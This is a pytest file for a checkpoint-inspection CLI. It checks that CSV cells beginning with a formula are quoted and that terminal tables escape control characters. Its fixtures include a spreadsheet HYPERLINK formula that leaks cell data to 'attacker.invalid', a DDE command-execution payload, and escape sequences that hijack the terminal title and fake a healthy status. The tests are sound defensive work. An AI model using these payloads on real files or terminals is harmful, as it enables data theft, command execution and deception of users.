"""Text from a stranger's file, written where it could act: a CSV cell a spreadsheet runs as
a formula (cli/output.py csv_text) and a terminal table cell carrying escape sequences
(cli/tables.py visible). The probe's checkpoint named its parameters
`=HYPERLINK("http://attacker.invalid/?leak="&A2,"click")` and
`w<ESC>]0;TITLE-HIJACK<ESC>\\<ESC>[2J<ESC>[31mFAKE: 0 errors - healthy<ESC>[0m`.
"""
from __future__ import annotations

import csv
import io

import pytest
import torch
from typer.testing import CliRunner

from qstate_cli.cli import app, output

pytestmark = pytest.mark.usefixtures("one_thread")  # see conftest.py

FORMULAS = ['=HYPERLINK("http://attacker.invalid/?leak="&A2,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1"]
ESCAPES = "w\x1b]0;TITLE-HIJACK\x1b\\\x1b[2J\x1b[31mFAKE: 0 errors - healthy\x1b[0m\x9b\x07"


def _checkpoint(tmp_path, names: list[str]) -> str:
    params = [torch.nn.Parameter(torch.ones(4, 4)) for _ in names]
    opt = torch.optim.AdamW([{"params": params, "param_names": names}])
    for p in params:
        p.grad = torch.ones_like(p)
    opt.step()
    torch.save(opt.state_dict(), tmp_path / "opt.pt")
    return str(tmp_path / "opt.pt")


def test_csv_text_cells_that_start_a_formula_get_a_quote_and_numbers_do_not():
    rows = [{"name": text, "delta": -0.5, "count": -3, "shape": [-1, 2], "note": "a=b"} for text in FORMULAS]
    back = list(csv.DictReader(io.StringIO(output.to_csv(rows))))
    assert [r["name"] for r in back] == ["'" + text for text in FORMULAS]
    assert {(r["delta"], r["count"], r["shape"], r["note"]) for r in back} == {("-0.5", "-3", "[-1, 2]", "a=b")}
    assert output.csv_text("\r=1") == "'\r=1" and output.csv_text("2-1") == "2-1"


def test_doctor_csv_of_hostile_parameter_names_holds_no_formula(tmp_path):
    path = _checkpoint(tmp_path, FORMULAS[:2])
    r = CliRunner().invoke(app, ["doctor", path, "--csv", str(tmp_path / "out.csv")])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text())))
    assert [row["param"] for row in rows] == ["'" + name for name in FORMULAS[:2]]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_a_table_shows_control_characters_as_escapes():
    from qstate_cli.cli.tables import visible

    assert visible(ESCAPES) == ("w\\x1b]0;TITLE-HIJACK\\x1b\\\\x1b[2J\\x1b[31mFAKE: 0 errors - healthy\\x1b[0m"
                                "\\x9b\\x07")
    assert visible("tab\there\nnewline é ✓ µ") == "tab\\x09here\\x0anewline é ✓ µ"  # printable text kept
    from rich.console import Console

    console = Console(width=200, record=True, color_system=None)
    console.print(output.table(f"title {ESCAPES}", [{f"head{ESCAPES}": ESCAPES, "n": 1}]))
    text = console.export_text()
    assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text
    assert text.count("w\\x1b]0;TITLE-HIJACK") == 3  # title, header and cell


def test_doctor_prints_a_hostile_parameter_name_without_its_escapes(tmp_path):
    path = _checkpoint(tmp_path, [ESCAPES, "plain"])
    r = CliRunner().invoke(app, ["doctor", path], env={"COLUMNS": "250"})
    assert r.exit_code == 0, r.output
    table = r.stdout.split("summary:")[0]
    assert "w\\x1b]0;TITLE-HIJACK\\x1b" in table and "\x1b" not in table and "\x9b" not in table
